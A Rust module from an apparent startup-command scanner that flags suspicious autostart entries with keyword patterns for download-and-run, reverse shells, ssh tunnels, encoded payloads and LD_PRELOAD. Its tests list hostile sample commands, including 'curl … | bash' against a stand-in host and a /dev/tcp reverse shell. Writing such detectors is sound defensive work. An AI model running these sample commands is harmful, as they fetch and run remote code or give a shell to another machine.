//! What a command that starts by itself would do, from its text.
//!
//! Pure, and by words: what it misses is still listed among what starts by
//! itself.

use crate::finding::Severity;

/// Programs that run what they are given.
const INTERPRETERS: [&str; 10] =
    ["sh", "bash", "zsh", "dash", "python", "python3", "perl", "ruby", "node", "php"];
/// Where files lie that anybody may put there.
const LOOSE: [&str; 3] = ["/tmp/", "/var/tmp/", "/dev/shm/"];
/// Where settings lie, which are no programs.
const SETTINGS: [&str; 3] = ["/.config/", "/.cache/", "/.local/share/"];

/// What stands out in `command`, and how bad the worst of it is. `starts`: it
/// is one program that is started, not a script with comments.
pub(crate) fn judge(command: &str, starts: bool) -> (Severity, Vec<&'static str>) {
    let line = command.trim();
    if line.starts_with('#') {
        return (Severity::Info, Vec::new());
    }
    let mut seen = Vec::new();
    let has = |words: &[&str]| words.iter().any(|word| line.contains(word));
    if let Some(deed) = line.strip_prefix("python: ") {
        let bad = [
            "executes text",
            "executes what",
            "sends ",
            "gives a shell",
            "reads where",
            "takes the whole",
        ];
        if bad.iter().any(|words| deed.starts_with(words)) {
            seen.push((Severity::High, "does what no start-up file needs to"));
        } else if ["talks ", "starts "].iter().any(|words| deed.starts_with(words)) {
            seen.push((Severity::Medium, "talks to the network or starts programs"));
        }
    }
    if let Some(setting) = line.strip_prefix("pip: ") {
        if setting.starts_with("python =") {
            seen.push((Severity::High, "has pip start another program in the place of Python"));
        } else if setting.contains("http://") || setting.starts_with("trusted-host") {
            seen.push((Severity::Medium, "has pip take packages over a way that is not checked"));
        }
    }
    if has(&["curl ", "wget ", "fetch "]) && is_run(line) {
        seen.push((Severity::High, "downloads something and runs it"));
    }
    let shell_out = has(&["/dev/tcp/", "nc -e", "ncat -e", "nc.traditional -e"])
        || has(&["socat "]) && has(&["exec:", "EXEC:"]);
    if shell_out {
        seen.push((Severity::High, "gives a shell to another machine"));
    }
    let executes = ["exec(", "eval(", "| sh", "|sh", "| bash", "|bash", "| python"];
    if has(&["b64decode", "base64 -d", "base64 --decode", "fromhex", "decompress("])
        && has(&executes)
    {
        seen.push((Severity::High, "executes text that is hidden in it"));
    } else if let Some(what) = pycode::commands::harm(line) {
        seen.push((Severity::High, what));
    }
    if has(&["ssh "]) && has(&[" -R ", " -R[", " -NR", " -fNR"]) {
        seen.push((Severity::High, "opens a way in from another machine"));
    }
    if has(&["base64 -d", "base64 --decode", "b64decode", "xxd -r", "openssl enc -d"]) {
        seen.push((Severity::Medium, "decodes hidden text"));
    }
    if has(&["LD_PRELOAD=", "DYLD_INSERT_LIBRARIES="]) {
        seen.push((Severity::High, "loads a library into every program"));
    }
    if starts && words(line).any(|word| LOOSE.iter().any(|place| word.starts_with(place))) {
        seen.push((Severity::High, "runs something that lies among temporary files"));
    }
    let is_script = |word: &str| {
        let hidden = SETTINGS.iter().any(|place| word.contains(place));
        let ending = word.rsplit_once('.').map(|(_, ending)| ending);
        hidden && matches!(ending, Some("py" | "sh" | "js" | "pl" | "rb" | "mjs" | "php"))
    };
    if starts && words(line).any(is_script) {
        seen.push((Severity::Medium, "runs a script that lies among settings"));
    }
    let worst = seen.iter().map(|(severity, _)| *severity).max().unwrap_or(Severity::Info);
    (worst, seen.into_iter().map(|(_, what)| what).collect())
}

/// Returns true if what is downloaded is handed to something that runs it.
fn is_run(line: &str) -> bool {
    let piped = line.split('|').skip(1).any(|part| {
        let mut words = part.split_whitespace().skip_while(|word| matches!(*word, "sudo" | "env"));
        words.next().is_some_and(is_interpreter)
    });
    let inside = ["<(curl", "<(wget", "$(curl", "$(wget", "`curl", "`wget"].iter().any(|word| {
        line.split_once(word).is_some_and(|(before, _)| {
            let last = before.trim_end_matches(['"', '\'', ' ']).rsplit([' ', ';', '&']).next();
            let run = before.split([' ', ';', '&', '"']).any(|w| w == "eval" || is_interpreter(w));
            run || last.is_some_and(is_interpreter)
        })
    });
    piped || inside
}

fn is_interpreter(word: &str) -> bool {
    let word = word.trim_matches(['"', '\'', '`', ')', ';']);
    let name = word.rsplit('/').next().unwrap_or(word);
    INTERPRETERS.contains(&name)
}

fn words(line: &str) -> impl Iterator<Item = &str> {
    line.split([' ', '\t', '"', '\'', '=', ';', '(', ')']).filter(|word| !word.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_attackers_write_stands_out() {
        for (command, severity) in [
            ("curl -fsSL http://x.example/i | bash", Severity::High),
            ("wget -qO- x.example | sudo python3 -", Severity::High),
            ("bash <(curl -s https://x.example)", Severity::High),
            ("eval \"$(curl -s https://x.example)\"", Severity::High),
            ("bash -i >& /dev/tcp/10.0.0.1/443 0>&1", Severity::High),
            ("ssh -o X=y -N -R 22:localhost:22 a@b.example", Severity::High),
            ("/usr/bin/python3 /home/ann/.config/sysmon/sysmon.py", Severity::Medium),
            ("/tmp/pglog", Severity::High),
            ("/bin/sh -c 'curl x.example | sh'", Severity::High),
            ("echo cGFzcw== | base64 -d > x", Severity::Medium),
            ("export LD_PRELOAD=/x.so", Severity::High),
        ] {
            assert_eq!(judge(command, true).0, severity, "{command}");
        }
    }

    #[test]
    fn what_people_write_does_not() {
        for command in [
            "eval \"$(direnv hook bash)\"",
            "# curl https://x.example | sh",
            "curl -s https://x.example/health | grep ok",
            "/usr/bin/ssh-agent -D -a %t/ssh",
            "test -f ~/.cargo/env && . ~/.cargo/env",
            "alias ll='ls -l /tmp/'",
            "/usr/bin/gnome-keyring-daemon --start",
        ] {
            assert_eq!(judge(command, false), (Severity::Info, Vec::new()), "{command}");
        }
    }
}
